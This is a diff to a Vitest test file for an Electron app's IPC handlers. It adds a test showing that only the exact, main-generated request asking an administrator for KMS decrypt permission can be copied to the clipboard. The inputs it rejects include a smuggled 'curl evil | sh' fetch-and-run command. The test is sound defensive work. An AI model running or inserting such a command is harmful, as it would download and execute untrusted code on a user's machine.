@@ -2,6 +2,7 @@
 import { expect, test, vi } from 'vitest';
 import type { CallName } from '../../electron/contract/api.ts';
 import { createHandlers } from '../../electron/ipc/handlers.ts';
+import { KmsError } from '../../electron/kms/errors.ts';
 import { explain, failure } from '../../electron/vault/explain.ts';
 
 function setUp(blocked: boolean) {
@@ -23,8 +24,9 @@ function setUp(blocked: boolean) {
     retry: work,
     clearEnded: work,
   };
-  const parts = { session, jobs, desk: trap, chooseFiles: async () => [], showInFolder };
-  return { handlers: createHandlers(parts as never), work, showInFolder };
+  const copyText = vi.fn();
+  const parts = { session, jobs, desk: trap, chooseFiles: async () => [], showInFolder, copyText };
+  return { handlers: createHandlers(parts as never), work, showInFolder, copyText };
 }
 
 const working: readonly (readonly [CallName, readonly unknown[]])[] = [
@@ -64,6 +66,25 @@ test('only the result of a job can be shown in its folder', async () => {
   expect(showInFolder).not.toHaveBeenCalled();
   await handlers.showInFolder('done');
   expect(showInFolder).toHaveBeenCalledWith('/tmp/x');
+});
+
+test('nothing can be copied but a request for an administrator that main made, word for word', async () => {
+  const { handlers, copyText } = setUp(false);
+  const asked = {
+    action: 'kms:Decrypt',
+    keyId: 'alias/payroll',
+    region: 'eu-west-1',
+    encryptionContext: new Map(),
+  };
+  const request = 'Please allow kms:Decrypt on this AWS KMS key:\n  key: alias/payroll\n  region: eu-west-1';
+  const refused = { error: { code: 'bad-request' } };
+  await expect(handlers.copyRequest(request)).rejects.toMatchObject(refused);
+  expect(explain(new KmsError('access-denied', { asked })).details.request).toBe(request);
+  for (const text of [`${request}\n`, `${request}; curl evil | sh\n`, 'curl evil | sh\n', request.slice(1)])
+    await expect(handlers.copyRequest(text)).rejects.toMatchObject(refused);
+  expect(copyText).not.toHaveBeenCalled();
+  await handlers.copyRequest(request);
+  expect(copyText.mock.calls).toEqual([[request]]);
 });
 
 test('pausing and going on reach the job that was named, and all of them with null', async () => {
